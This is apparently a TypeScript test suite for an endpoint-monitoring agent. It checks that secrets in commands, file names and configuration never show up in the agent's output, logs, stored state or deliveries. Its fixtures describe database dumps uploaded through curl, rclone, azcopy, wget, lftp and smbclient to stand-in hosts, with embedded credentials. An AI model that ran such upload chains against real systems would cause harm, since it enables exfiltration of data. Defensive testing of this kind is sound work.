/**
 * Secrets at every place of a command that is known, inside whole chains, through everything that prints, keeps or sends: none
 * of them may come out.
 */
import { once } from 'node:events';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import * as fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { baseline } from '../../../agent/commands/baseline.ts';
import { capture } from '../../../agent/commands/capture.ts';
import { checkConfig, showConfig } from '../../../agent/commands/config.ts';
import { doctor } from '../../../agent/commands/doctor.ts';
import { explain } from '../../../agent/commands/explain.ts';
import { listFindings, showFinding } from '../../../agent/commands/findings.ts';
import { exportOutbox, listOutbox, outboxStatus } from '../../../agent/commands/outbox.ts';
import { redact } from '../../../agent/commands/redact.ts';
import { replay } from '../../../agent/commands/replay.ts';
import { listRules } from '../../../agent/commands/rules.ts';
import { status } from '../../../agent/commands/status.ts';
import type { Output } from '../../../agent/commands/terminal.ts';
import { readConfig } from '../../../agent/config.ts';
import { runDaemon } from '../../../agent/daemon.ts';
import { readDestinations } from '../../../agent/deliver/destination.ts';
import { toSummary } from '../../../agent/deliver/formats/summary.ts';
import { openLog } from '../../../agent/health/log.ts';
import { loadKnowledge } from '../../../agent/knowledge.ts';
import { Redactor } from '../../../agent/redaction/redactor.ts';
import { openOrRecover } from '../../../agent/store/recovery.ts';
import type { Collector, LiveOutput } from '../../../collectors/collector.ts';
import { AROUND, COMMANDS, SCRIPTS, SECRET } from '../../support/secret-commands.ts';
import { PROGRAMS, type Proc, Story } from '../../support/story.ts';

const SEED = 20_261_124;

/** In every secret, and in nothing else. */
const MARKS = ['Zq7x', 'ZQ7X'];

type Words = readonly string[];

const TEMPLATES: readonly Words[] = [
  ...COMMANDS.map((command) => command.split(' ')),
  ...AROUND.map(([command]) => command.split(' ')),
  ...SCRIPTS,
].filter((words) => words.some((word) => word.includes(SECRET)));

/** Uploads of a file, with a secret in every place that a destination or a remote has for one. */
const UPLOADS: readonly ((file: string) => Words)[] = [
  (file) => ['curl', '-T', file, `https://u:${SECRET}@files.example/in?sig=${SECRET}`],
  (file) => [
    'curl',
    '-F',
    `file=@${file}`,
    '-H',
    `Authorization: Bearer ${SECRET}`,
    'https://file.io/',
  ],
  (file) => ['curl', '-T', file, '-u', `maria:${SECRET}`, 'ftp://u@h.example/'],
  (file) => ['curl', '-T', file, `ftp://u:${SECRET}@h.example/x?token=${SECRET}`],
  (file) => ['rclone', 'copy', file, `:webdav,user=u,pass=${SECRET},url=https://h.example:in`],
  (file) => ['rclone', 'copyto', file, `:s3,provider=AWS,secret_access_key=${SECRET}:b/in`],
  (file) => ['rclone', 'copy', `:sftp,pass=${SECRET},host=h:/x`, file],
  (file) => ['azcopy', 'copy', file, `https://a.blob.core.windows.net/c?sv=1&sig=${SECRET}`],
  (file) => ['aws', 's3', 'cp', file, `s3://b/in?X-Amz-Signature=${SECRET}`],
  (file) => ['http', '-a', `u:${SECRET}`, 'POST', 'https://h.example/in', `file@${file}`],
  (file) => ['wget', `--post-file=${file}`, `https://h.example/in?access_token=${SECRET}`],
  (file) => ['scp', file, 'u@h.example:/in'],
  (file) => ['lftp', '-u', `u,${SECRET}`, '-e', `put ${file}`, 'h.example'],
  (file) => ['lftp', '-e', `put ${file}`, `ftp://u:${SECRET}@h.example`],
  (file) => ['smbclient', '//h.example/s', '-U', `u%${SECRET}`, '-c', `put ${file}`],
  (file) => ['mc', 'cp', file, `store/b?token=${SECRET}`],
];

/** Names of files with secrets in them. */
const NAMES: readonly string[] = [
  `password=${SECRET}.csv`,
  `dump.sql?sv=1&sig=${SECRET}&se=2`,
  `DB_TOKEN=${SECRET}/shop.sql.gz`,
];

/** Characters that mean nothing to a shell, a URL or a connection string; long enough to be told from anything else. */
const part = fc.string({
  unit: fc.constantFrom(...Array.from('abcdefghkmnpqrstwyzABCDEFGHKLMNPRSTWYZ234568')),
  minLength: 7,
  maxLength: 12,
});
const secret = fc
  .tuple(part, part, fc.constantFrom('', '!', '%2B', '+', '~', '^', '.'))
  .map(([before, after, sign]) => `${before}Zq7x${sign}${after}`);
/** An access key id of Amazon, known by its shape alone. */
const keyId = fc
  .string({
    unit: fc.constantFrom(...Array.from('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567')),
    minLength: 12,
    maxLength: 12,
  })
  .map((text) => `AKIAZQ7X${text}`);
const corpus = fc.record({
  secrets: fc.array(secret, { minLength: TEMPLATES.length, maxLength: TEMPLATES.length }),
  uploads: fc.array(secret, { minLength: UPLOADS.length, maxLength: UPLOADS.length }),
  names: fc.array(secret, { minLength: NAMES.length, maxLength: NAMES.length }),
  keyId,
  pem: fc.string({
    unit: fc.constantFrom(...Array.from('ABCDefgh0123+/')),
    minLength: 64,
    maxLength: 64,
  }),
});

type Corpus = typeof corpus extends fc.Arbitrary<infer T> ? T : never;

const filled = (words: Words, value: string): Words =>
  words.map((word) => word.replaceAll(SECRET, value));

/** As a person would type it. */
const typed = (words: Words): string =>
  words
    .map((word) => (/^[\w./:=@,+-]+$/.test(word) ? word : `'${word.replaceAll("'", `'\\''`)}'`))
    .join(' ');

const HOME = '/Users/maria/Downloads';

function commandsOf({ secrets, pem }: Corpus): readonly Words[] {
  const key = `-----BEGIN PRIVATE KEY-----\nZq7x${pem}\n-----END PRIVATE KEY-----`;
  return [
    ...TEMPLATES.map((words, at) => filled(words, secrets[at] ?? '')),
    ['sh', '-c', `cat > k.pem <<EOF\n${key}\nEOF`],
    ['tool', '--note', key],
  ];
}

function programOf(words: Words): { path: string; args: Words; cwd: string } {
  return { path: `/opt/homebrew/bin/${words[0] ?? ''}`, args: words, cwd: HOME };
}

/** Every command, run by itself and by a shell; exports that are renamed and sent away by every uploader. */
function storyOf(given: Corpus): Story {
  const story = new Story().host();
  const shell = story.shell();
  const finder = story.running(PROGRAMS.finder);
  const tool = (words: Words): Proc => story.run(shell, programOf(words));
  const files = [
    ...NAMES.map((name, at) => `${HOME}/${name.replaceAll(SECRET, given.names[at] ?? '')}`),
    `${HOME}/dump-${given.keyId}.sql`,
    `${HOME}/x`,
  ];
  for (const words of commandsOf(given)) {
    const proc = tool(words);
    story.write(proc, `${HOME}/x`).exit(proc);
    story.exit(story.run(shell, { ...PROGRAMS.zsh, args: ['zsh', '-c', typed(words)], cwd: HOME }));
  }
  for (const file of files) {
    const psql = story.run(shell, { ...PROGRAMS.psql, args: ['psql', 'shop'], cwd: HOME });
    story.write(psql, `${file}.part`).rename(psql, `${file}.part`, file).exit(psql);
    for (const [at, upload] of UPLOADS.entries()) {
      const words = filled(upload(file.slice(HOME.length + 1)), given.uploads[at] ?? '');
      story.exit(tool(words));
    }
    story.clone(
      finder,
      file,
      `/Users/maria/Library/CloudStorage/Dropbox/${file.slice(HOME.length + 1)}`,
    );
  }
  // What is uploaded and no file of the chain, and programs with a secret in their own path.
  for (const words of [['curl', '-T', `/x/token=${given.names[0] ?? ''}.csv`, 'https://file.io']])
    story.exit(tool(words));
  const mine = { path: `/Users/maria/token=${given.names[1] ?? ''}/psql`, signingId: 'psql' };
  story.write(story.run(shell, mine), `${HOME}/mine.csv`);
  return story;
}

/** Everything a verb prints, under its name. */
class Printed {
  readonly texts = new Map<string, string>();

  output(verb: string): Output {
    const add = (text: string): void => {
      this.texts.set(verb, (this.texts.get(verb) ?? '') + text);
    };
    return { out: add, err: add };
  }

  file(path: string): void {
    this.texts.set(path, readFileSync(path, 'latin1'));
  }

  folder(path: string): void {
    for (const entry of readdirSync(path, { withFileTypes: true }))
      if (entry.isFile()) this.file(join(path, entry.name));
  }

  /** Verbs and files in which a secret, or either half of one, is. */
  leaks(given: Corpus): readonly string[] {
    const parts = [
      ...MARKS,
      ...[...given.secrets, ...given.uploads, ...given.names].flatMap((text) => text.split('Zq7x')),
      given.keyId.slice(8),
      given.pem.slice(0, 32),
      // The environment of every program of a story.
      'hunter2',
    ].filter((text) => text.length >= 4);
    return [...this.texts].flatMap(([verb, text]) =>
      parts.flatMap((leaked) => {
        const at = text.indexOf(leaked);
        return at === -1 ? [] : [`${verb}: ${text.slice(Math.max(0, at - 80), at + 60)}`];
      }),
    );
  }
}

const knowledge = loadKnowledge();
const root = mkdtempSync(join(tmpdir(), 'spillwatch-secrets-'));
afterAll(() => rmSync(root, { recursive: true }));
let count = 0;
function place(name: string): string {
  const folder = join(root, String((count += 1)));
  mkdirSync(folder);
  return join(folder, name);
}

/** The lines in two files, of which the second continues the first. */
function captures(story: Story): readonly [string, string] {
  const lines = story.lines();
  const half = Math.floor(lines.length / 2);
  const [first, second] = [place('a.ndjson'), place('b.ndjson')];
  writeFileSync(first, `${lines.slice(0, half).join('\n')}\n`);
  writeFileSync(second, `${lines.slice(half).join('\n')}\n`);
  return [first, second];
}

function source(run: Collector['run']): { part: string; make: () => Collector } {
  return { part: 'endpoint-security', make: () => ({ name: 'endpoint-security', run }) };
}

async function verbsOf(given: Corpus): Promise<Printed> {
  const printed = new Printed();
  const out = (verb: string): Output => printed.output(verb);
  const story = storyOf(given);
  const [first, second] = captures(story);
  const state = place('state');
  await replay({ captures: [first], format: 'ocsf', state }, out('replay ocsf'));
  await replay({ captures: [second], format: 'summary', state }, out('replay summary'));
  await explain({ captures: [first, second] }, out('explain'));
  await explain({ captures: [], state, json: true }, out('explain --state'));
  listFindings({ state, limit: 50 }, out('findings list'));
  listFindings({ state, limit: 50, json: true }, out('findings list --json'));
  const ids = printed.texts.get('findings list --json')!.match(/(?<="finding":")[^"]+/g) ?? [];
  expect(ids.length).toBeGreaterThan(10);
  for (const id of ids) {
    showFinding({ id, state }, out('findings show'));
    showFinding({ id, state, json: true }, out('findings show --json'));
    const html = place('report.html');
    showFinding({ id, state, html }, out('findings show --html'));
    printed.file(html);
  }
  baseline({ state }, out('baseline'));
  listRules({ state, json: true }, out('rules list'));
  printed.folder(state);

  const stop = new AbortController();
  const recording = place('recording.ndjson');
  const sources = () => [
    source(async (live, signal) => {
      for (const line of story.lines()) live.line(line);
      stop.abort();
      if (!signal.aborted) await once(signal, 'abort');
    }),
  ];
  await capture({ file: recording }, out('capture'), { sources, signal: stop.signal });
  printed.file(recording);

  const input = commandsOf(given).map((argv) => JSON.stringify({ argv, text: typed(argv) }));
  await redact(
    { mode: 'redact' },
    out('redact'),
    Readable.from([Buffer.from(`${input.join('\n')}\n{"argv"`)]),
  );
  return printed;
}

describe(`whatever secrets stand in commands and names of files (seed ${SEED})`, () => {
  it('none is in what a verb prints or keeps', async () => {
    const property = fc.asyncProperty(corpus, async (given) => {
      const printed = await verbsOf(given);
      expect(printed.leaks(given)).toEqual([]);
    });
    await fc.assert(property, { seed: SEED, numRuns: 1, endOnFailure: true });
  });

  it('none is in what the running agent logs, keeps, sends and says of itself', async () => {
    const [given] = fc.sample(corpus, { seed: SEED, numRuns: 1 }) as [Corpus];
    const printed = new Printed();
    const out = (verb: string): Output => printed.output(verb);
    const state = place('state');
    const sent = place('findings.ndjson');
    const { connection, recovered } = openOrRecover(state);
    const redactor = new Redactor({ kind: 'redact' });
    const log = openLog({ write: (text: string) => out('log').out(text) });
    const stop = new AbortController();
    const ready = new AbortController();
    let live: LiveOutput | null = null;
    const ended = runDaemon(
      {
        stateFolder: state,
        connection,
        recovered,
        key: new Uint8Array(32).fill(1),
        redactText: (text) => redactor.redactText(text),
        configProblems: [],
        config: readConfig({}).config,
        origins: [],
        knowledge,
        sources: () => [
          source(async (output, signal) => {
            live = output;
            if (!signal.aborted) await once(signal, 'abort');
          }),
        ],
        // One that takes everything, and one that can take nothing, so that rows wait.
        destinations: readDestinations([
          { type: 'file', path: sent },
          { type: 'file', name: 'stuck', path: '/proc/nothing/here.ndjson', format: 'summary' },
        ]).destinations,
        environment: new Map(),
        emit: (finding) => log.finding(toSummary(finding)),
        log: log.health,
        heartbeat: log.heartbeat,
        onReady: () => ready.abort(),
      },
      stop.signal,
    );
    await Promise.race([once(ready.signal, 'abort'), ended]);
    const output = live!;
    for (const line of storyOf(given).lines()) output.line(line);
    for (const [at, words] of commandsOf(given).entries())
      output.trouble({
        code: 'helper-exited',
        detail: `the helper said: ${typed(words)}`,
        subject: at % 2 === 0 ? null : `/x/token=${given.secrets[at] ?? ''}.csv`,
        lasts: at < 100,
      });
    await status({ state }, out('status'));
    await status({ state, json: true }, out('status --json'));
    await doctor({ state, json: true }, out('doctor'));
    printed.folder(state);
    stop.abort();
    await ended;
    await outboxStatus({ state }, out('outbox status'));
    listOutbox({ state, waiting: true }, out('outbox list'));
    exportOutbox({ state, waiting: true }, out('outbox export'));
    printed.folder(state);
    expect(printed.texts.get('outbox export')).toContain('"stage":"upload"');
    expect(printed.leaks(given)).toEqual([]);
  });

  it('none of a configuration is shown', async () => {
    const [given] = fc.sample(corpus, { seed: SEED, numRuns: 1 }) as [Corpus];
    const [one = '', two = ''] = given.secrets;
    const printed = new Printed();
    const file = place('config.json');
    const documents = [
      {
        deliver: [{ type: 'webhook', url: `https://u:${one}@h/${two}?token=${one}`, secret: two }],
      },
      { deliver: [{ type: 'x', token: two }, one], windows: { exportMinutes: 0 } },
      {
        endpointSecurity: {
          command: ['/usr/bin/sshpass', '-p', one, 'ssh', 'h', `mysql -p${two}`],
        },
      },
    ];
    for (const document of documents) {
      writeFileSync(file, JSON.stringify(document));
      // oxlint-disable-next-line no-await-in-loop -- the file is written anew for each
      await checkConfig([file], printed.output('config check'));
      // oxlint-disable-next-line no-await-in-loop -- the file is written anew for each
      await showConfig({ config: file }, printed.output('config show'));
      // oxlint-disable-next-line no-await-in-loop -- the file is written anew for each
      await showConfig({ config: file, json: true }, printed.output('config show --json'));
    }
    for (const text of [`{"token": ${one}}`, `{"token":"${one}" "${two}"}`, `{"token":"${one}`]) {
      writeFileSync(file, text);
      // oxlint-disable-next-line no-await-in-loop -- the file is written anew for each
      await checkConfig([file], printed.output('config check'));
      // oxlint-disable-next-line no-await-in-loop -- the file is written anew for each
      await showConfig({ config: file }, printed.output('config show'));
    }
    expect(printed.leaks(given)).toEqual([]);
  });
});
